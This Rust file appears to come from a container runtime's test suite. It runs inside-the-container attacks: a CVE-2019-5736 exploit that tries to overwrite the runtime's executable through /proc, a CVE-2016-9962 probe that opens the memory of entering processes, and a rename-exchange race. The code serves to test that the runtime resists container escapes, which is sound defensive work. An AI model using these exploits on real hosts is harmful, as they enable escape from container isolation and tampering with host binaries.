//! What a container does that wants out: attacks from the inside, run by `inside attack …`, and a
//! racing rename from a volume that it shares.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};

use super::InsideError;
use crate::support::machine::full;

/// How often a race is tried.
pub(crate) fn rounds() -> usize {
    if full() { 500 } else { 40 }
}

pub(crate) fn main(args: &[&str]) -> Result<(), InsideError> {
    match args {
        ["overwrite", seconds] => overwrite(Duration::from_secs_f64(seconds.parse()?)),
        ["pry", seconds] => pry(Duration::from_secs_f64(seconds.parse()?)),
        _ => Err("no such attack".into()),
    }
}

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}").and_then(|()| out.flush());
}

/// Processes beside this one.
fn others() -> Vec<PathBuf> {
    let own = std::process::id().to_string();
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter(|entry| {
            let name = entry.file_name().to_string_lossy().into_owned();
            name.bytes().all(|byte| byte.is_ascii_digit()) && name != own
        })
        .map(|entry| entry.path())
        .collect()
}

fn is_own_program(exe: &fs::Metadata) -> bool {
    fs::metadata("/proc/self/exe").is_ok_and(|own| (own.dev(), own.ino()) == (exe.dev(), exe.ino()))
}

/// CVE-2019-5736: opens the executable of whoever comes in by another program than this one, and
/// writes to it as soon as nobody executes it any more.
fn overwrite(time: Duration) -> Result<(), InsideError> {
    say("ready");
    let started = Instant::now();
    let mut held: Vec<File> = Vec::new();
    let mut told: BTreeSet<String> = BTreeSet::new();
    let mut round = 0u32;
    while started.elapsed() < time {
        round = round.wrapping_add(1);
        // Holding some, it spends most of its time on those.
        let processes = if held.is_empty() || round.is_multiple_of(64) {
            others()
        } else {
            Vec::new()
        };
        for process in processes {
            let exe = process.join("exe");
            if held.len() < 100
                && fs::metadata(&exe).is_ok_and(|file| !is_own_program(&file))
                && let Ok(file) = File::open(&exe)
            {
                if told.insert("holds".to_owned()) {
                    say("holds the runtime's executable");
                }
                held.push(file);
            }
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            match fs::OpenOptions::new().write(true).open(path) {
                Ok(mut file) => {
                    file.write_all(b"#!/bin/evil\n")?;
                    say("overwrote it");
                    return Ok(());
                }
                Err(error) => {
                    if told.insert(error.to_string()) {
                        say(&format!("refused: {error}"));
                    }
                }
            }
        }
    }
    say("done");
    Ok(())
}

/// CVE-2016-9962: looks into every process that comes in, before it has become the program that
/// it was to become.
fn pry(time: Duration) -> Result<(), InsideError> {
    say("ready");
    let started = Instant::now();
    let mut seen = BTreeSet::new();
    while started.elapsed() < time {
        for process in others() {
            seen.insert(process.clone());
            let foreign = fs::metadata(process.join("exe")).map(|exe| !is_own_program(&exe));
            if matches!(foreign, Ok(true)) {
                say(&format!("looked into {}", process.display()));
            }
            let memory = File::open(process.join("mem"));
            let still_foreign = fs::metadata(process.join("exe")).map(|exe| !is_own_program(&exe));
            if let (Ok(mut memory), Ok(true)) = (memory, still_foreign) {
                let _ = memory.read(&mut [0u8; 1]);
                say(&format!("opened the memory of {}", process.display()));
            }
        }
    }
    say(&format!("done, {} processes came in", seen.len()));
    Ok(())
}

/// Exchanges two files, again and again, as fast as it can, until it is dropped.
pub(crate) struct Exchange {
    stop: Arc<AtomicBool>,
    times: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Exchange {
    pub(crate) fn start(one: &Path, other: &Path) -> Exchange {
        let stop = Arc::new(AtomicBool::new(false));
        let times = Arc::new(AtomicU64::new(0));
        let (one, other) = (one.to_owned(), other.to_owned());
        let (stopped, counted) = (Arc::clone(&stop), Arc::clone(&times));
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                let flags = RenameFlags::RENAME_EXCHANGE;
                if renameat2(AT_FDCWD, &one, AT_FDCWD, &other, flags).is_ok() {
                    counted.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        Exchange {
            stop,
            times,
            thread: Some(thread),
        }
    }

    pub(crate) fn times(&self) -> u64 {
        self.times.load(Ordering::Relaxed)
    }
}

impl Drop for Exchange {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}
